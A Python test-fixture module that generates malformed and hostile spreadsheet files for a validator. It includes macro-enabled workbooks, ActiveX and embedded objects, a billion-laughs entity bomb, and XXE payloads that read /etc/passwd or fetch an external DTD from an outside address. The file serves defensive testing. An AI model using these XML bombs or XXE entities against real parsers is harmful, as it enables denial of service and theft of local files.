"""Files that are bad as files: bombs, lies, passwords, other types, broken containers, active content."""

from __future__ import annotations

import tempfile
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING

from containers import (
    SHEET,
    make_compound,
    make_encrypted_workbook,
    make_ods,
    make_xls,
    number_record,
    parts_of,
    record,
    with_parts,
)
from filled_forms import FORM
from hostile.cells import PERIOD, UNIT, good_result, office_workbook, template
from hostile.part_names import MAIN, MC, STRICT, STRINGS, TYPES, WORKBOOK_LINKS

from cchc_calc.excel.template import write_template

if TYPE_CHECKING:
    from collections.abc import Callable

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@cache
def macro_template() -> bytes:
    """Write the good form in our own template with macros."""
    with tempfile.TemporaryDirectory(prefix="cchc-good-") as folder:
        path = Path(folder) / "bieu-mau.xlsm"
        write_template(path, FORM, unit=UNIT, period=PERIOD, result=good_result())
        return path.read_bytes()


def with_type(content_type: str, data: bytes | None = None) -> bytes:
    """Let the list of types name another main part."""
    xml = parts_of(data or template())[TYPES].decode()
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert plain in xml
    return with_parts(data or template(), {TYPES: xml.replace(plain, content_type).encode()})


def declared(part: str, content_type: str, content: bytes = b"<a/>") -> bytes:
    """Add a part with its type to the good form."""
    xml = parts_of(template())[TYPES].decode()
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    return with_parts(template(), {TYPES: xml.replace("</Types>", override).encode(), part: content})


def macro_sheet() -> bytes:
    """Turn a sheet of the template into an Excel 4 macro sheet."""
    links = parts_of(template())[WORKBOOK_LINKS]
    old = b'relationships/worksheet" Target="worksheets/sheet2.xml'
    assert old in links
    new = b'relationships/xlMacrosheet" Target="worksheets/sheet2.xml'
    return with_parts(template(), {WORKBOOK_LINKS: links.replace(old, new)})


def with_dtd(part: str, dtd: str) -> bytes:
    """Put a DTD before the root of a part."""
    xml = parts_of(template())[part].decode()
    head, _, rest = xml.partition("?>")
    return with_parts(template(), {part: f"{head}?>{dtd}{rest}".encode()})


def in_utf_16(part: str) -> bytes:
    """Write a part in UTF-16."""
    xml = parts_of(template())[part].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return with_parts(template(), {part: xml.encode("utf-16")})


def strict(*parts: str) -> bytes:
    """Write parts in the dialect of Strict Open XML."""
    changes = {part: parts_of(template())[part].replace(MAIN.encode(), STRICT.encode()) for part in parts}
    return with_parts(template(), changes)


def wrapped_grid(opening: str, closing: str) -> bytes:
    """Put the rows of the grid into other elements."""
    xml = parts_of(office_workbook())[SHEET].decode()
    xml = xml.replace("<sheetData>", f"<sheetData>{opening}").replace("</sheetData>", f"{closing}</sheetData>")
    return with_parts(office_workbook(), {SHEET: xml.encode()})


def xls(*, streams: dict[str, bytes] | None = None, records: bytes = b"", kinds: dict[str, int] | None = None) -> bytes:
    """Write an old workbook of one figure, with more streams or records."""
    data = make_xls({"A": number_record(0, 0, 3)}, more=records, kinds=kinds)
    if streams is None:
        return data
    from cchc_calc.compound import CompoundFile

    return make_compound({"Workbook": CompoundFile(data).read("Workbook"), **streams})


FILES: dict[str, Callable[[], bytes]] = {
    "password": make_encrypted_workbook,
    "password-of-xls": lambda: xls(records=record(0x002F, b"\1\0" + bytes(52))),
    "xls-renamed": xls,
    "xlsb-renamed": lambda: with_type("application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    "ods-renamed": lambda: make_ods(""),
    "html-renamed": lambda: "<html><body><table><tr><td>Số liệu</td></tr></table></body></html>".encode(),
    "html-of-a-portal": lambda: b'\xef\xbb\xbf  <html xmlns:x="urn:schemas-microsoft-com:office:excel"><head>',
    "mhtml-renamed": lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related",
    "csv-renamed": lambda: "STT;Chỉ tiêu;Số liệu\n1.1.;Số văn bản;3\n".encode(),
    "xml-2003-renamed": lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
    "pdf-renamed": lambda: b"%PDF-1.7\n1 0 obj",
    "cut-password-file": lambda: make_encrypted_workbook()[:600],
    "good": template,
    "lock-file": lambda: b"\x05admin" + bytes(159),
    "macros": macro_template,
    "macros-of-xls": lambda: xls(streams={"_VBA_PROJECT": b"\xcc\x61" + bytes(20)}),
    "excel-4-macro-sheet": macro_sheet,
    "excel-4-macro-sheet-of-xls": lambda: xls(kinds={"A": 1}),
    "embedded-object": lambda: declared(
        "xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", b"\xd0\xcf\x11\xe0"
    ),
    "embedded-package": lambda: with_parts(template(), {"xl/embeddings/a.docx": b"PK\3\4"}),
    "embedded-object-of-xls": lambda: xls(streams={"\1Ole10Native": bytes(30)}),
    "activex": lambda: declared("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    "activex-of-xls": lambda: xls(streams={"Ctls": bytes(30)}),
    "data-connection": lambda: declared(
        "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    ),
    "query-table": lambda: declared(
        "xl/queryTables/q1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml"
    ),
    "data-connection-of-xls": lambda: xls(records=record(0x00DC, bytes(12))),
    "billion-laughs": lambda: with_dtd(SHEET, f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>'),
    "quadratic-blow-up": lambda: with_dtd(STRINGS, f'<!DOCTYPE a [<!ENTITY l "{"a" * 50_000}">]>'),
    "dtd-in-the-types": lambda: with_dtd(TYPES, "<!DOCTYPE Types>"),
    "dtd-in-the-styles": lambda: with_dtd("xl/styles.xml", "<!DOCTYPE styleSheet>"),
    "xxe-file": lambda: with_dtd("xl/workbook.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "xxe-address": lambda: with_dtd(SHEET, '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'),
    "sheet-in-utf-16": lambda: in_utf_16(SHEET),
    "strings-in-utf-16": lambda: in_utf_16(STRINGS),
    "strict-sheet": lambda: strict(SHEET),
    "strict-workbook": lambda: strict(SHEET, "xl/workbook.xml", STRINGS, "xl/styles.xml"),
    "rows-in-an-alternative": lambda: wrapped_grid(
        f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="x">', "</mc:Choice></mc:AlternateContent>"
    ),
    "rows-in-another-namespace": lambda: wrapped_grid('<x:group xmlns:x="urn:x">', "</x:group>"),
}
"""The content of every file, by its name in the list of cases."""
